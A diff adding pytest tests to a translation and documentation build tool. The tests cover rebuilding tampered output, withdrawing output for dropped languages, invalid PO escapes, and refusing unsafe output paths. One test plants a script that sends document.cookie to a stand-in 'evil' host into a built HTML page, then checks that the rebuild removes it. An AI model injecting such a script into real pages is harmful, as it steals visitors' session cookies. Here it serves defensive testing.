@@ -262,3 +262,97 @@ def test_a_template_override_that_is_no_file_is_a_one_line_error(
     result = homelang("build", "--draft", "--lang", "es", "-f", "web", expect=2)
     assert result.output.startswith(f"Error: templates/{name}: not a regular file")
     assert len(result.output.splitlines()) == 1
+
+
+def test_tampered_output_is_rendered_again(catalogs_ready: Path, homelang) -> None:
+    """The manifest vouches for an output's bytes too: a planted script does not survive a build."""
+    homelang("pretranslate", "--provider", "pseudo")
+    homelang("build", "--draft", "--lang", "es", "--format", "web")
+    page = catalogs_ready / "build" / "es" / f"{NOTICE}.web.html"
+    clean = page.read_bytes()
+    script = '<script>fetch("//evil/?"+document.cookie)</script></section>'
+    page.write_text(clean.decode("utf-8").replace("</section>", script), "utf-8")
+    result = outputs(
+        homelang("build", "--draft", "--lang", "es", "--format", "web", "--json").output
+    )
+    assert result[f"es/{NOTICE}.web.html"]["rebuilt"]
+    assert page.read_bytes() == clean
+
+
+@pytest.mark.parametrize("draft", [["--draft"], []])
+def test_dropped_language_or_document_leaves_no_outputs(
+    catalogs_ready: Path, homelang, draft: list[str]
+) -> None:
+    """Outputs of a language or document no longer configured are withdrawn, draft or not."""
+    homelang("pretranslate", "--provider", "pseudo")
+    review(catalogs_ready, "ar", FAQ)
+    homelang("build", "--format", "web", "--doc", FAQ)  # ar/FAQ published
+    homelang("build", "--draft", "--format", "web", "--doc", NOTICE)
+    build = catalogs_ready / "build"
+    assert (build / "ar" / f"{NOTICE}.web.html").exists()
+    assert (build / "ar" / f"{FAQ}.web.html").exists()
+    settings = catalogs_ready / "pyproject.toml"
+    text = re.sub(r"(?m)^languages = .*$", 'languages = ["es", "so"]', settings.read_text("utf-8"))
+    settings.write_text(re.sub(r"(?m)^language_providers = .*$", "", text), "utf-8")
+    (catalogs_ready / "source/faq/sanctuary-resolution-faq.md").unlink()
+    homelang("build", "--format", "web", *draft)
+    left = sorted(p.relative_to(build).as_posix() for p in build.glob("*/*.web.html"))
+    assert left and all(p.split("/")[0] in ("en", "es", "so") for p in left), left
+    assert not any(FAQ in p for p in left), left
+    for name in (".manifest.json", ".outputs.json"):
+        kept = json.loads((build / name).read_text("utf-8"))
+        assert all(p.split("/")[0] in ("en", "es", "so") and FAQ not in p for p in kept), kept
+
+
+@pytest.mark.parametrize("escape", ["\\xFFFFFFFF", "\\x110000", "\\xD800"])
+def test_an_escape_past_unicode_is_a_one_line_error(
+    catalogs_ready: Path, homelang, escape: str
+) -> None:
+    path = catalogs_ready / "locales" / "es" / "LC_MESSAGES" / f"{NOTICE}.po"
+    lines = path.read_text("utf-8").split("\n")
+    number = next(i for i, line in enumerate(lines, 1) if line == 'msgstr ""' and i > 20)
+    lines[number - 1] = f'msgstr "Hola {escape}"'
+    path.write_text("\n".join(lines), "utf-8")
+    before = path.read_bytes()
+    for command in (["check"], ["status"], ["build", "--draft", "--lang", "es"]):
+        result = homelang(*command, expect=2)
+        assert result.output == (
+            f"Error: locales/es/LC_MESSAGES/{NOTICE}.po:{number}: not a valid PO file: "
+            f"escape {escape} is not a character\n"
+        )
+    assert path.read_bytes() == before
+
+
+@pytest.mark.parametrize("out", ["source", "locales", ".", ".git", "source/notices/x", ".homelang"])
+def test_build_output_over_the_project_folders_is_refused(
+    catalogs_ready: Path, homelang, out: str
+) -> None:
+    (catalogs_ready / ".git").mkdir()
+    before = {p: p.read_bytes() for p in catalogs_ready.rglob("*") if p.is_file()}
+    result = homelang(
+        "build", "--draft", "--lang", "es", "-f", "web", "-o", str(catalogs_ready / out), expect=2
+    )
+    assert result.output.startswith("Error: ") and result.output.count("\n") == 1
+    assert {p: p.read_bytes() for p in catalogs_ready.rglob("*") if p.is_file()} == before
+
+
+def test_build_output_through_a_link_is_refused(
+    catalogs_ready: Path, homelang, tmp_path: Path
+) -> None:
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (catalogs_ready / "real").mkdir()
+    (catalogs_ready / "real" / "x").symlink_to(outside)
+    result = homelang(
+        "build",
+        "--draft",
+        "--lang",
+        "es",
+        "-f",
+        "web",
+        "-o",
+        str(catalogs_ready / "real/x/y"),
+        expect=2,
+    )
+    assert "real/x" in result.output and "link" in result.output
+    assert not any(outside.iterdir())
